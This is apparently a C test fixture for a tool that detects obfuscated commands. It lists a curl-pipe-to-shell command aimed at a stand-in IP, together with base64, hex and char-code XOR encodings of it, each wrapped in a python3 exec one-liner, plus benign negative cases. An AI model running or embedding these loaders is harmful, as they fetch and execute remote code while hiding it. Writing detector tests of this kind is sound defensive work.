// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "base64+xor", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import base64;exec(bytes(b^0x41 for b in base64"
		".b64decode('IjQzLWFsMmEpNTUxe25ucHh5b3Rwb3BxcW92bjk9Mik=')))"
		"\"" },
	{ "hex+xor", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec(''.join(chr(c^65) for c in bytes.fromhex('"
		"2234332d616c3261293535317b6e6e7078796f74706f7071716f766e393d"
		"3229')))\"" },
	{ "charcode+xor", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec(''.join(chr(c ^ 0x41) for c in [34,52,51,4"
		"5,97,108,50,97,41,53,53,49,123,110,110,112,120,121,111,116,1"
		"12,111,112,113,113,111,118,110,57,61,50,41]))\"" },
};

static const char *const not [] = {
	"python3 -c 'print(5 ^ 3)'",
	"ls | grep ^2024",
	"xor 12 34 'plain text'",
};

HIDDEN_MAIN("xor")
